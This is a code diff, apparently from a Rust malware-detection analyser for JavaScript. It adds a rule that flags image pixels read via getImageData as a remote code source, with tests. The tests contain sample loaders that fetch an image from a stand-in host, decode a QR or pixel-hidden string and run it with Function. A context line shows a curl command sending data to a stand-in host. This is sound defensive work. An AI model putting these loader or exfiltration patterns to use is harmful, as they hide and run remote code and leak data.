@@ -1090,6 +1090,16 @@ impl Tracker<'_, '_> {
                     }
                     return Some((Source::Remote, format!("the response of {p}")));
                 }
+                // The pixels of an image drawn on a canvas (`ctx.getImageData(…)`): images are
+                // fetched by URL, and pixels read back to text are a known hiding place (QR or
+                // steganographic stages). Not in bundles (over 200 KB): names are tracked without
+                // scopes there, and a pixel buffer's name links to unrelated code.
+                if let Expression::StaticMemberExpression(m) = c.callee.without_parentheses()
+                    && m.property.name == "getImageData"
+                    && self.an.src_len() <= 200 * 1024
+                {
+                    return Some((Source::Remote, "the pixels of an image".into()));
+                }
                 if is_sink(&p) {
                     return None;
                 }
@@ -1954,6 +1964,29 @@ exec(`curl -s -d ${d} https://c.example/e`);"#;
             .into_iter()
             .map(|f| (f.source, f.sink))
             .collect()
+    }
+
+    #[test]
+    fn image_pixels_run_as_code_are_remote() {
+        let src = r#"function rev(s) { return s.split("").reverse().join(""); }
+const img = new Image();
+img.onload = () => {
+  const c = document.createElement("canvas"); const g = c.getContext("2d"); g.drawImage(img, 0, 0);
+  const px = g.getImageData(0, 0, c.width, c.height);
+  const code = decodeQr(px.data, px.width, px.height);
+  if (code) Reflect.apply(Function, null, [rev(code.data)])();
+};
+img.src = "https://h.example/b.png";"#;
+        let r = runs(src);
+        assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
+        let lsb = r#"const d = ctx.getImageData(0, 0, 64, 64).data; let s = "";
+for (let i = 0; i < d.length; i += 4) s += String.fromCharCode(d[i]);
+new Function(s)();"#;
+        assert_eq!(runs(lsb).first().map(|r| r.0), Some(Source::Remote));
+        // Pixels filtered and drawn back run nothing.
+        let filter = r#"const px = ctx.getImageData(0, 0, w, h); for (let i = 0; i < px.data.length; i += 4) px.data[i] = 255 - px.data[i];
+ctx.putImageData(px, 0, 0); const f = new Function("a", "b", "return a + b"); f(1, 2);"#;
+        assert!(runs(filter).is_empty(), "{:?}", runs(filter));
     }
 
     #[test]
